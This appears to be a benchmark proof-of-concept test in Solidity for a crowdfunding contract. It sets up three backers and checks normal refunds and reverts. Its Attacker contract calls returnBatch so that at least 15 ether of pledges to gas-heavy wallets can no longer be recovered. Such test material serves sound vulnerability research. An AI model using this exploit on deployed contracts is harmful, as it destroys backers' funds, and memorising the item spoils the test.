// SPDX-License-Identifier: MIT
// canary: assay-canary-322666be-1964-434b-8a2b-6bdf57db5b43
pragma solidity 0.4.26;

import "./PlayhousePledges.sol";

interface Vm {
    function deal(address who, uint256 amount) external;
    function warp(uint256 time) external;
    function prank(address who) external;
    function addr(uint256 key) external returns (address);
    function expectRevert(bytes reason) external;
}

// A multi-owner style wallet: it keeps a record of what comes in, which takes more than 2300 gas.
contract ClubWallet {
    uint256 public received;
    uint256 public entries;

    function () external payable {
        received += msg.value;
        entries += 1;
    }

    function pledge(PlayhousePledges drive, uint256 amount) external {
        drive.pledge.value(amount)();
    }

    function claim(PlayhousePledges drive) external {
        drive.claim();
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);

    PlayhousePledges internal drive;
    Attacker internal spoiler;
    ClubWallet internal clubA;
    ClubWallet internal clubB;
    address internal carol;

    function found(address foundation, uint256 goal, uint256 span) external returns (PlayhousePledges) {
        return new PlayhousePledges(foundation, goal, span);
    }

    function setUp() public {
        vm.warp(1700000000);
        drive = new PlayhousePledges(address(0xF00D), 100 ether, 30);
        carol = vm.addr(0xCA401);
        clubA = new ClubWallet();
        clubB = new ClubWallet();
        vm.deal(carol, 3 ether);
        vm.deal(address(clubA), 10 ether);
        vm.deal(address(clubB), 5 ether);

        clubA.pledge(drive, 10 ether);
        vm.prank(carol);
        drive.pledge.value(3 ether)();
        clubB.pledge(drive, 5 ether);

        vm.warp(1700000000 + 30 days);
        drive.conclude();
        require(drive.stage() == PlayhousePledges.Stage.Returning, "stage");

        spoiler = new Attacker(drive);
    }

    // What the backers have or can still get.
    function recoverable() public view returns (uint256) {
        return address(clubA).balance + address(clubB).balance + carol.balance
            + drive.pledges(address(clubA)) + drive.pledges(address(clubB)) + drive.pledges(carol);
    }

    function test_Regular() public {
        require(drive.backerCount() == 3, "backers");
        require(drive.raised() == 18 ether, "raised");
        clubA.claim(drive);
        require(address(clubA).balance == 10 ether && clubA.received() == 10 ether, "clubA claimed");
        require(drive.pledges(address(clubA)) == 0, "clubA settled");

        drive.returnBatch(2);
        require(drive.cursor() == 2, "cursor");
        require(carol.balance == 3 ether && drive.pledges(carol) == 0, "carol repaid");

        clubB.claim(drive);
        require(address(clubB).balance == 5 ether, "clubB claimed");
        drive.returnBatch(uint256(-1));
        require(drive.cursor() == 3 && address(drive).balance == 0, "all returned");

        vm.warp(drive.concludedAt() + drive.CLAIM_TERM());
        drive.closeBooks();
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// A drive has a foundation, a goal and a term.
    function test_RefusesDrives() public {
        require(!_founds(0, 1, 1) && !_founds(1, 0, 1) && !_founds(1, 1, 0) && !_founds(1, 1, 121) && _founds(1, 1, 120), "terms");
    }

    function _founds(address foundation, uint256 goal, uint256 span) private returns (bool) {
        return address(this).call(abi.encodeWithSelector(this.found.selector, foundation, goal, span));
    }

    /// What belongs to raising.
    function test_RefusesWhileRaising() public {
        PlayhousePledges other = this.found(address(0xF00D), 1 ether, 10);
        vm.deal(carol, 4 ether);
        refuses(carol, "pledge too small");
        other.pledge.value(49 finney)();
        vm.expectRevert("drive is running");
        other.conclude();
        vm.expectRevert("not in this stage");
        other.collect();
        vm.expectRevert("not in this stage");
        other.claim();
        vm.expectRevert("not in this stage");
        other.returnBatch(1);
        vm.expectRevert("not in this stage");
        other.closeBooks();
        vm.prank(carol);
        other.pledge.value(1 ether)();
        vm.warp(now + 10 days);
        refuses(carol, "drive is over");
        other.pledge.value(1 ether)();
        other.conclude();
        refuses(carol, "producer only");
        other.collect();
    }

    /// What belongs to returning.
    function test_RefusesWhileReturning() public {
        vm.deal(address(0xBEE), 1 ether);
        refuses(address(0xBEE), "not in this stage");
        drive.pledge.value(1 ether)();
        vm.expectRevert("not in this stage");
        drive.conclude();
        vm.expectRevert("nothing due");
        drive.claim();
        vm.expectRevert("claims are open");
        drive.closeBooks();
        vm.deal(address(drive), 1 ether);
        vm.expectRevert("balance short");
        drive.returnBatch(3);
        refuses(carol, "payment refused");
        drive.claim();
    }

    function exploit() public {
        spoiler.run();
    }

    function test_Exploit() public {
        uint256 before = recoverable();
        exploit();
        require(before - recoverable() >= 15 ether, "nothing lost");
    }

    function target() public view returns (address) {
        return address(drive);
    }

    function attacker() public view returns (address) {
        return address(spoiler);
    }
}

contract Attacker {
    PlayhousePledges internal drive;

    constructor(PlayhousePledges _drive) public {
        drive = _drive;
    }

    function run() external {
        drive.returnBatch(drive.backerCount());
    }
}
